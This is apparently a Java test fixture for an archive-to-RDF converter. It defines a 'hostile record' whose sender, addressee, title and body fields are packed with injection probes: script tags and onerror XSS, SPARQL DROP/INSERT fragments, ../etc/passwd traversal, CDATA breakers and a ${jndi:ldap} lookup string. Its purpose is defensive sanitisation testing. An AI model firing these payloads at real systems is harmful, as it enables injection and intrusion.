package org.archivelod;

/**
 * A well-formed record whose title, body and names hold markup, quotes, CDATA ends, SPARQL fragments, path
 * traversal and IRI-breaking characters: it must convert to valid RDF and show as inert text on every page.
 */
public final class HostileRecord {
    public static final String SENDER = "<script>alert('sender')</script> \"Q\" ]]> ../../etc/passwd";
    public static final String ADDRESSEE = "} ; DROP ALL ; SELECT * WHERE { ?s ?p ?o } <http://evil/> | ^ ` \\ >";
    public static final String TITLE = "Letter, " + SENDER + " for " + ADDRESSEE;
    public static final String BODY = "<script>alert(\"body\")</script> <img src=x onerror=alert(1)> ]]> '\"; "
            + "INSERT DATA { <a> <b> <c> } # ../../../etc/passwd %2e%2e%2f {{mustache}} ${jndi:ldap://x/a}";
    public static final String TEXT = """
            October 5, 1950

            %s

            %s

            Dear <b>FILIPPOV</b> [Stalin]: "quotes" & 'apostrophes' ]]> <![CDATA[ x ]]>

            A summary with <script>alert('summary')</script>.

            Document Information

            Source

            <Archive> "of" ]]> ../etc; copy available in Library <of> Congress, Manuscript Division, </td> papers, 1887-1995, mm97083838

            Rights

            The History and Public Policy Program welcomes reuse <script>alert('rights')</script>.
            """.formatted(TITLE, BODY);

    private HostileRecord() {}
}
